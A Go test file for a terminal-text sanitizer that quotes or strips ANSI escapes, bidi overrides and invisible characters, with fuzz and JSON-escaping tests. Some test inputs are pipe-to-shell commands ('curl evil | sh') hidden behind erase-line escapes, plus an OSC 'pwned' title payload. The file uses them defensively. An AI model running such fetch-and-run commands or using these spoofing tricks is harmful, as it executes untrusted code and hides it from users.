package termtext

import (
	"bytes"
	"encoding/json"
	"maps"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestQuote(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text is unchanged", "claude -p --model sonnet", "claude -p --model sonnet"},
		{"backslashes are kept", `printf 'a\tb\n' | grep -E '\d'`, `printf 'a\tb\n' | grep -E '\d'`},
		{"multi-byte text is kept", "ünïcødé ✓ 日本語 🚀 👩‍💻", "ünïcødé ✓ 日本語 🚀 👩‍💻"},
		{"erase line and return", "curl x | sh; true \x1b[2K\r  command agent_command: claude -p",
			`curl x | sh; true \x1b[2K\r  command agent_command: claude -p`},
		{"C0 controls", "a\x00b\x07c\x08d\x7fe\x0bf\x0cg", `a\x00b\ac\bd\x7fe\vf\fg`},
		{"line breaks and tabs", "one\ntwo\tthree\r\n", `one\ntwo\tthree\r\n`},
		{"C1 CSI and NEL", "a\u009b2Jb\u0085c", `a\u009b2Jb\u0085c`},
		{"bidi override", "safe\u202e}kcab{", `safe\u202e}kcab{`},
		{"bidi isolates and marks", "\u2066x\u2069\u200f\u061c", `\u2066x\u2069\u200f\u061c`},
		{"zero-width space and BOM", "PA\u200bTH\ufeff", `PA\u200bTH\ufeff`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"invisible tags", "x\U000e0041", `x\U000e0041`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Quote(tt.in)
			if got != tt.want {
				t.Errorf("Quote(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if again := Quote(got); again != got {
				t.Errorf("quoting twice: %q", again)
			}
			for _, r := range got {
				if Unsafe(r) {
					t.Errorf("quoted text holds %U", r)
				}
			}
		})
	}
}

func TestQuoteLines(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"lines and tabs are kept", "goal:\n\t- fix it\r\n", "goal:\n\t- fix it\r\n"},
		{"a bare CR is quoted", "done\rnot done\n", "done\\rnot done\n"},
		{"escapes are quoted", "## Goal\n\x1b]0;pwned\x07\x1b[31mred\n", "## Goal\n\\x1b]0;pwned\\a\\x1b[31mred\n"},
		{"a CR at the very end is quoted", "x\r", `x\r`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := QuoteLines(tt.in); got != tt.want {
				t.Errorf("QuoteLines(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestStrip(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "ok  \tpkg", "ok  \tpkg"},
		{"SGR colours", "\x1b[1m\x1b[31mFAILED\x1b[0m tests/a.py::b", "FAILED tests/a.py::b"},
		{"charset designation (tput sgr0)", "test a ... \x1b[32mok\x1b(B\x1b[m", "test a ... ok"},
		{"OSC hyperlink ended by BEL and ST", "\x1b]8;;file:///x\x07x.go\x1b]8;;\x1b\\:3", "x.go:3"},
		{"cursor movement and erase", "a\x1b[2K\x1b[10;20Hb\x1b[?25l", "ab"},
		{"two-character escape", "\x1b7saved\x1b8", "saved"},
		{"C1 CSI", "\u009b31mred\u009b0m", "red"},
		{"truncated escape at end", "abc\x1b[3", "abc"},
		{"lone escape", "abc\x1b", "abc"},
		{"ESC ESC starts over", "a\x1b\x1b[31mb", "ab"},
		{"unterminated CSI gives up at a control character", "\x1b[31\nnext", "\nnext"},
		{"unterminated OSC ends at a line break", "\x1b]0;title\nafter", "\nafter"},
		{"runaway OSC is abandoned after MaxSequence", "\x1b]" + strings.Repeat("x", MaxSequence+9), strings.Repeat("x", 10)},
		{"control characters outside sequences stay", "50%\rdone\x08\x07", "50%\rdone\x08\x07"},
		{"invalid UTF-8 is kept", "\x1b[1ma\xffb", "a\xffb"},
		{"multi-byte text is kept", "\x1b[32m✓\x1b[0m 日本語 🚀", "✓ 日本語 🚀"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(Strip([]byte(tt.in))); got != tt.want {
				t.Errorf("Strip(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got := StripString(tt.in); got != tt.want {
				t.Errorf("StripString(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// A sequence split between two feeds is removed whole: the state is kept.
func TestStripperAcrossWrites(t *testing.T) {
	in := "\x1b[32mok\x1b[0m \x1b]0;t\x07next\x1b(B!"
	for i := range len(in) + 1 {
		var s Stripper
		var out []rune
		for _, part := range []string{in[:i], in[i:]} {
			for _, r := range part {
				if s.Text(r) {
					out = append(out, r)
				}
			}
		}
		if string(out) != "ok next!" {
			t.Fatalf("split at %d: %q", i, string(out))
		}
	}
}

func BenchmarkQuotePlain(b *testing.B) {
	s := strings.Repeat("go test ./... -run TestParse ", 8)
	for b.Loop() {
		Quote(s)
	}
}

func BenchmarkStripLine(b *testing.B) {
	line := []byte("\x1b[1m\x1b[31mFAILED\x1b[0m tests/test_login.py::test_login[params] - AssertionError")
	buf := make([]byte, len(line))
	for b.Loop() {
		copy(buf, line)
		Strip(buf)
	}
}

// Whatever the input, quoted text is valid UTF-8 with nothing a terminal
// would obey, quoting it again changes nothing, and stripping leaves no
// ESC behind.
func FuzzQuoteAndStrip(f *testing.F) {
	for _, s := range []string{"", "plain", "a\x1b[2K\rb", "\u202e\xff\xc2\x9b31m", "\x1b]8;;x\x1b\\y", "line\r\nnext\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, quote := range []func(string) string{Quote, QuoteLines} {
			q := quote(s)
			if !utf8.ValidString(q) {
				t.Fatalf("quoted %q is not UTF-8: %q", s, q)
			}
			if quote(q) != q {
				t.Fatalf("quoting %q twice changed it: %q", s, quote(q))
			}
			for i, r := range q {
				if Unsafe(r) && r != '\n' && r != '\t' && !(r == '\r' && strings.HasPrefix(q[i+1:], "\n")) {
					t.Fatalf("quoted %q holds %U", s, r)
				}
			}
		}
		if got := Quote(s); strings.ContainsAny(got, "\n\t\r") {
			t.Fatalf("Quote(%q) kept a line break or tab: %q", s, got)
		}
		if st := StripString(s); strings.Contains(st, "\x1b[") && len(s) < MaxSequence {
			t.Fatalf("StripString(%q) = %q", s, st)
		}
	})
}

func TestStripCSI(t *testing.T) {
	for in, want := range map[string]string{
		"plain": "plain",
		"\x1b[31mred\x1b[0m and \u009b1mbold\u009bm": "red and bold",
		"curl evil | sh\x1b[2K\rFix":                 "curl evil | sh\rFix", // the CR is Quote's to show
		"\x1b]0;title\x07 kept":                      "\x1b]0;title\x07 kept",
		"broken \x1b[12":                             "broken \x1b[12",
		"\x1b[8mconcealed\x1b[28m":                   "concealed",
		"half \x1b[1;\x1bx":                          "half \x1b[1;\x1bx",
	} {
		if got := StripCSI(in); got != want {
			t.Errorf("StripCSI(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestEscapeJSON(t *testing.T) {
	v := map[string]string{"goal": "Fix\u202e\x7f\u009b2K\u0085 it\U000e0041 naïve \u200d \x1b[2K\n", "plain": "ascii"}
	raw, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got := EscapeJSON(raw)
	for _, r := range string(got) {
		if r != '\n' && Unsafe(r) {
			t.Fatalf("EscapeJSON left %U in %s", r, got)
		}
	}
	var back map[string]string
	if err := json.Unmarshal(got, &back); err != nil || !maps.Equal(back, v) {
		t.Fatalf("EscapeJSON(%s) = %s: decodes to %q (%v), want %q", raw, got, back, err, v)
	}
	if !bytes.Contains(got, []byte(`Fix\u202e\u007f\u009b2K\u0085 it\udb40\udc41 naïve `+"\u200d")) {
		t.Errorf("EscapeJSON = %s", got)
	}
	if plain := []byte(`{"a":"b"}`); &EscapeJSON(plain)[0] != &plain[0] {
		t.Error("EscapeJSON copied text with nothing to escape")
	}
	if got := EscapeJSON([]byte("\"a\xffb\"")); string(got) != `"a\ufffdb"` {
		t.Errorf("EscapeJSON of invalid UTF-8 = %q", got)
	}
}
